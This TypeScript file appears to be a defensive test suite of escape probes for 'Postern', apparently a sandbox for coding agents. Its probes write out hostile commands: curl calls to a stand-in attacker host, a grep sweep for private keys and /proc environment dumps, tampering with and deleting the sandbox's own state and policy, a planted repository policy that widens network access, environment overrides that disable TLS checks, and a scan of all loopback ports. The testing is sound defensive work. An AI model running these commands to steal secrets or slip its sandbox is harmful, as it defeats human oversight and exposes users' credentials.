// Techniques 28, 68 to 71: Postern's own things, and its word: its state, its policy, its authority, its answers. A home
// holds what an installation of ours would, so that what is reached there is seen; the session's own lie elsewhere.

import { existsSync, mkdirSync, readFileSync } from "node:fs";
import { changed, reached } from "../../oracles.ts";
import type { After, Probe } from "../../probe.ts";
import type { Rig } from "../../rig/rig.ts";
import { evil } from "../../rig/world.ts";

const state = ".local/state/postern";
const policy = ".config/postern/policy.yaml";
const rivals = ({ target }: { target: string }): string | undefined =>
  /^(?:srt|codex)/.test(target) ? "it is about Postern's own things" : undefined;
const alone = "without a boundary there is none";
const base = { source: "list", notHere: rivals } as const;

const widened = (host: string): string => `version: 1\nnetwork:\n  allow:\n    - host: ${host}\n`;
const reachEvil = `curl -sk -m 4 https://${evil.name}/v1/x >> loot 2>&1`;
const refusedEvil: NonNullable<Probe["entry"]> = ({ kind, verdict, sealed }) =>
  kind !== "exec" && verdict === "refuse" && JSON.stringify(sealed).includes(evil.name);

const lootHas =
  (pattern: RegExp, what: string): Probe["landed"] =>
  ({ rig }: After) =>
    pattern.test(rig.read("loot")) ? what : undefined;

/** In the state directory of the session itself. */
const sessionAnswer = ({ base: all }: Rig): string => `${all}/state/canary`;
const answerChanged = ({ rig }: After): string | undefined =>
  existsSync(sessionAnswer(rig)) && readFileSync(sessionAnswer(rig), "utf8") === "no\n"
    ? undefined
    : "the session's own state is changed";

/** The session's own policy is as it was written. */
const policyChanged = ({ rig }: After): string | undefined =>
  existsSync(`${rig.base}/policy.yaml`) && readFileSync(`${rig.base}/policy.yaml`, "utf8").includes("pwn")
    ? "the policy in force is changed"
    : undefined;

export const keep: readonly Probe[] = [
  {
    ...base,
    id: "own-state-written",
    technique: 28,
    title: "the record, its keys and what was answered, written",
    record: "unseen",
    prepare: (rig) => {
      rig.write(`${rig.home}/${state}/answers/1`, "no\n");
      mkdirSync(`${rig.base}/state`, { mode: 0o700 });
      rig.write(sessionAnswer(rig), "no\n", 0o666);
    },
    inside: ({ base: all, home }) =>
      `for d in "${home}/${state}" "${all}/state"; do echo yes > "$d/answers/1"; find "$d" -type f -exec sh -c 'echo pwn >> "$1"' x {} \\; ; rm -rf "$d"; done`,
    landed: (after) => changed(`home/${state}`)(after) ?? answerChanged(after),
  },
  {
    ...base,
    id: "own-state-read",
    technique: 28,
    title: "the record and its keys, read",
    record: "absent",
    prepare: (rig) => rig.write(`${rig.home}/${state}/key`, `canary-key-${rig.token}\n`),
    inside: ({ base: all, home }) =>
      `find "${home}/${state}" "${all}/state" -type f -exec cat {} + > loot; cat "${all}/policy.yaml" >> loot`,
    landed: lootHas(/canary-key-|forbidden-program/, "it was read"),
  },
  {
    ...base,
    id: "own-policy-written",
    technique: 28,
    title: "the person's policy, written",
    record: "unseen",
    prepare: (rig) => rig.write(`${rig.home}/${policy}`, "version: 1\n"),
    inside: ({ base: all, home }) => `echo '# pwn' >> "${home}/${policy}"; echo '# pwn' >> "${all}/policy.yaml"`,
    landed: (after) => changed(`home/${policy}`)(after) ?? policyChanged(after),
  },
  {
    ...base,
    id: "own-authority",
    technique: 68,
    title: "the private key of the session's authority",
    record: "absent",
    uncontrolled: alone,
    inside: () =>
      'grep -rlsa \'BEGIN.*PRIVATE KEY\' /etc /run /tmp /var /home /root /dev/shm "$HOME" > keys; while read -r f; do cat "$f" >> loot; done < keys; for p in /proc/[0-9]*; do cat $p/environ $p/cmdline; done >> loot',
    landed: lootHas(/BEGIN [A-Z ]*PRIVATE KEY-----\s+[A-Za-z0-9+/]{60}/, "a private key was read"),
    notHere: (place) => rivals(place) ?? (place.target === "none" ? alone : undefined),
  },
  {
    ...base,
    id: "own-console",
    technique: 69,
    title: "every port of loopback inside, asked for an answer",
    record: "absent",
    uncontrolled: "what it would ask is the harness",
    notHere: (place) => rivals(place) ?? (place.target === "none" ? "what it would ask is the harness" : undefined),
    inside: () =>
      `timeout 20 python3 -c '
import socket
for port in range(1, 65536):
    s = socket.socket()
    s.settimeout(0.2)
    # in the range of callers a socket may meet itself
    if s.connect_ex(("127.0.0.1", port)) == 0 and s.getsockname() != s.getpeername():
        try:
            s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
            if s.recv(100): print("answered", port)
        except OSError: pass
    s.close()' > loot`,
    landed: lootHas(/answered \d/, "something answers on loopback inside"),
  },
  {
    ...base,
    id: "config-repository",
    decisive: true,
    technique: 71,
    title: "a policy in the repository that allows more",
    record: "must",
    source: "CVE-2026-21852",
    files: () => ({ "postern.yaml": widened(evil.name) }),
    inside: () => reachEvil,
    landed: reached(evil.ip),
    entry: refusedEvil,
  },
  {
    ...base,
    id: "config-written-inside",
    technique: 71,
    title: "a policy in the repository, written while the tool works",
    record: "must",
    inside: () => `printf '${widened(evil.name).replaceAll("\n", "\\n")}' > postern.yaml; ${reachEvil}`,
    landed: reached(evil.ip),
    entry: refusedEvil,
  },
  {
    ...base,
    id: "config-environment",
    technique: 71,
    title: "variables inside that would lead Postern elsewhere",
    record: "must",
    source: "agentsh H17",
    inside: ({ work }) =>
      `export POSTERN_HOME="${work}/state" POSTERN_POLICY="${work}/p.yaml" POSTERN_MODE=audit POSTERN=0 NODE_TLS_REJECT_UNAUTHORIZED=0 NO_PROXY='*'; ${reachEvil}`,
    landed: reached(evil.ip),
    entry: refusedEvil,
  },
];

/** A name of the world whose certificate names another. */
export const unverified: readonly Probe[] = [
  {
    ...base,
    id: "certificate-of-another",
    technique: 68,
    title: "an allowed host whose certificate is another's, with the client's checks off",
    record: "must",
    grants: ["self-signed.test"],
    inside: () =>
      "curl -sk -m 4 https://self-signed.test/v1/x > loot 2>&1; NODE_TLS_REJECT_UNAUTHORIZED=0 /usr/bin/node -e 'fetch(\"https://self-signed.test/v1/x\")' >> loot 2>&1",
    landed: ({ seen }) =>
      seen.some((one) => one.kind === "request" && one.headers.includes("self-signed.test"))
        ? "a request reached a server nobody vouches for"
        : undefined,
    entry: ({ kind, sealed }) =>
      kind !== "exec" &&
      JSON.stringify(sealed).includes("self-signed.test") &&
      /cannot be trusted/.test(String(sealed["outcome"])),
  },
];
